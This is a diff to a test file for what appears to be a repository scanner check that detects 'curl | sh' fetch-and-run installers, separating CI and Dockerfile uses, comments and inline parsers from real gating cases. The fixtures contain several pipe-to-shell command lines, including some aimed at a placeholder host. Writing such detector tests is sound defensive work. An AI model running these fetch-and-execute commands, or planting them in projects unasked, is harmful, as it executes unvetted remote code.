@@ -28,3 +28,33 @@ def test_fail_every_form_and_place(machine):
 def test_unknown_unreadable_script(machine):
     machine.ws("setup.sh", b"\xff\xfe curl | sh")
     assert machine.run("SUP005").status is Status.UNKNOWN
+
+
+def test_ci_and_image_builds_only_are_advisory(machine):
+    """claude-code, ruff, uv and a dozen more: `curl … | sh` in workflows and in
+    Dockerfiles (a devcontainer's too) runs on a CI runner or in `docker build`, not
+    where the agent works: reported, never gating. A devcontainer's script counts."""
+    machine.ws(".github/workflows/ci.yml",
+               "steps:\n  - run: curl -LsSf https://astral.sh/uv/install.sh | sh\n")
+    machine.ws("docker/Dockerfile", "FROM debian\nRUN curl https://sh.rustup.rs -sSf | bash\n")
+    machine.ws(".devcontainer/Dockerfile", "FROM x\nRUN curl -fsSL https://x.invalid | sh\n")
+    out = machine.run("SUP005")
+    assert out.status is Status.FAIL and out.advisory, out
+    assert all("advisory" in e.detail for e in out.evidence)
+    machine.ws(".devcontainer/post-create.sh", "curl -fsSL https://x.invalid | sh\n")
+    out = machine.run("SUP005")
+    assert out.status is Status.FAIL and not out.advisory
+
+
+def test_comments_and_inline_programs_reading_a_download_are_not_installers(machine):
+    """continue: a commented-out `# curl … | bash`; cline: `curl … | node -e '<parser>'`,
+    where the download is the inline program's data."""
+    machine.ws("extensions/cli/scripts/install.sh",
+               "#!/bin/sh\n# curl -fsSL https://continue.dev/install.sh | bash\necho hi\n")
+    machine.ws("scripts/live.sh", "LIVE=$(curl -sf https://x.invalid/v | node -e 'let d=\"\"; "
+               "process.stdin.on(\"data\", c => d += c)')\n"
+               "curl -s https://x.invalid/q | python3 -c 'import json, sys; "
+               "json.load(sys.stdin)'\n")
+    assert machine.run("SUP005").status is Status.PASS
+    machine.ws("scripts/bad.sh", "curl -s https://x.invalid/i | python3 -\n")
+    assert machine.run("SUP005").status is Status.FAIL
